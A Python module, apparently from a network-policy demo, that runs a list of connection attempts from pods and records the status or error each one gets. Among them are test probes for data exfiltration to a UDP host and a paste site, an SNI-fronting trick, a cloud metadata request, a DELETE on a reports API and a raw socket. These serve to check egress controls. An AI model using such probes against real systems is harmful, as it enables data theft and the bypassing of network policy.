"""What the tasks try, inside their pods; each attempt ends in what the task's own code would see."""

from __future__ import annotations

import errno
import socket
import ssl
import struct
from collections.abc import Callable

from demo.servers import DNS, EXFIL, METADATA, REPORTS, WAREHOUSE


def fetch(host: str, address: str = "", port: int = 80, request: str = "GET /", server_name: str = "") -> str:
    """Resolve a name and ask for a page, by TLS for a server name if given; the status line, or the error's name."""
    try:
        address = address or (host if host[0].isdigit() else _resolve(host))
        with socket.create_connection((address, port), 3) as plain:
            s = _secured(plain, server_name) if server_name else plain
            s.sendall(f"{request} HTTP/1.1\r\nHost: {server_name or host}\r\n\r\n".encode())
            return s.recv(4096).split(b"\r\n")[0].decode().removeprefix("HTTP/1.1 ")
    except OSError as exc:
        return _said(exc)


def _secured(plain: socket.socket, server_name: str) -> ssl.SSLSocket:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # the demo's server signs for itself
    return context.wrap_socket(plain, server_hostname=server_name)


def query(address: str, port: int) -> str:
    """A PostgreSQL startup message, and whether the server gets ready."""
    try:
        with socket.create_connection((address, port), 3) as s:
            s.sendall(struct.pack(">IHH", 8, 3, 0))
            return "ready for query" if s.recv(64) else "closed"
    except OSError as exc:
        return _said(exc)


def send(address: str, port: int) -> str:
    """One datagram."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.sendto(b"rows", (address, port))
        except OSError as exc:
            return _said(exc)
    return "sent"


def open_raw() -> str:
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    except OSError as exc:
        return _said(exc)
    return "opened"


PARTNER = "api.partner.example"
ATTEMPTS: tuple[tuple[str, Callable[..., str], tuple[object, ...]], ...] = (
    ("postgresql://warehouse.db:5432", query, (WAREHOUSE, 5432)),
    ("http://api.partner.example/", fetch, (PARTNER,)),
    ("http://paste.example/", fetch, ("paste.example",)),
    ("https://api.partner.example/", fetch, (PARTNER, "", 443, "GET /", PARTNER)),
    ("https://paste.example/ at that address", fetch, (PARTNER, "", 443, "GET /", "paste.example")),
    ("GET http://reports.web:8080/v1/rows", fetch, ("reports.web", REPORTS, 8080, "GET /v1/rows")),
    ("DELETE http://reports.web:8080/v1/rows", fetch, ("reports.web", REPORTS, 8080, "DELETE /v1/rows")),
    (f"http://{METADATA}/", fetch, (METADATA,)),
    (f"a datagram to {EXFIL}:9999", send, (EXFIL, 9999)),
    ("a raw socket", open_raw, ()),
)
"""A day's work, and some that is not: what is tried, how, and with what."""


def _resolve(name: str) -> str:
    """An A query by hand: the pods have no resolv.conf of their own here (RFC 1035)."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    question = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.connect((DNS, 53))
        s.send(question)
        return socket.inet_ntoa(s.recv(512)[-4:])


def _said(exc: OSError) -> str:
    return errno.errorcode.get(exc.errno or 0, "ETIMEDOUT")
